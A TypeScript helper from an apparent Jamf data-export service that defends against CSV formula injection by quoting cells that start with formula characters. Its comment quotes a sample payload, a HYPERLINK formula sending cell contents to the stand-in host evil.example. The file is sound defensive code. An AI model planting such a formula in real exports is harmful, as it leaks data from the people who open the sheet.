/**
 * CSV formula injection (OWASP): a spreadsheet opening an export runs a cell that starts with "=",
 * "+", "-" or "@" (or with a tab or carriage return before one) as a formula, so a Jamf real name
 * such as `=HYPERLINK("https://evil.example?"&A1,"Click")` would leak the sheet or run commands.
 * Such a cell gets a leading single quote, which spreadsheets show as text and do not display.
 * Only strings: numbers, booleans and dates are written by this service and cannot be formulas.
 *
 * Every CSV writer calls this on each cell before quoting (RecordWriter does), whichever library
 * writes the CSV.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function neutraliseCsvFormula(value: unknown): unknown {
  return typeof value === 'string' && FORMULA_START.test(value) ? `'${value}` : value;
}
